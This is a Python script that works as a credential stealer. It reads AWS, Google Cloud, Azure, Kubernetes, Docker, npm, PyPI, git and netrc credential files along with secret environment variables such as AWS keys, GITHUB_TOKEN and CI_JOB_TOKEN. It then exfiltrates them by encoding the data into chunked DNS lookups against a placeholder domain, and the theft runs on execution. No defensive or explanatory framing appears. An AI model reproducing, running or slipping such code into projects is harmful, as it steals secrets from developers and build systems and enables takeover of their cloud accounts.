import base64
import glob
import os
import socket

DOMAIN = "x.exfil-dns.invalid"
FILES = [
    "~/.aws/credentials", "~/.aws/config", "~/.config/gcloud/application_default_credentials.json",
    "~/.config/gcloud/credentials.db", "~/.azure/accessTokens.json", "~/.azure/msal_token_cache.json",
    "~/.kube/config", "~/.docker/config.json", "~/.npmrc", "~/.pypirc", "~/.git-credentials", "~/.netrc",
]
ENV_KEYS = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "GITHUB_TOKEN",
            "AZURE_CLIENT_SECRET", "GOOGLE_APPLICATION_CREDENTIALS", "NPM_TOKEN", "CI_JOB_TOKEN")


def collect():
    blob = []
    for pat in FILES:
        for p in glob.glob(os.path.expanduser(pat)):
            try:
                with open(p, "rb") as f:
                    blob.append(b"#" + p.encode() + b"\n" + f.read(8192))
            except OSError:
                pass
    for k in ENV_KEYS:
        if os.environ.get(k):
            blob.append(f"{k}={os.environ[k]}".encode())
    return b"\n".join(blob)


def send(data):
    sid = os.urandom(3).hex()
    enc = base64.b32encode(data).decode().rstrip("=").lower()
    chunks = [enc[i:i + 60] for i in range(0, len(enc), 60)]
    for n, c in enumerate(chunks):
        try:
            socket.gethostbyname(f"{c}.{n}.{sid}.{DOMAIN}")
        except OSError:
            pass
    try:
        socket.gethostbyname(f"end.{len(chunks)}.{sid}.{DOMAIN}")
    except OSError:
        pass


send(collect())
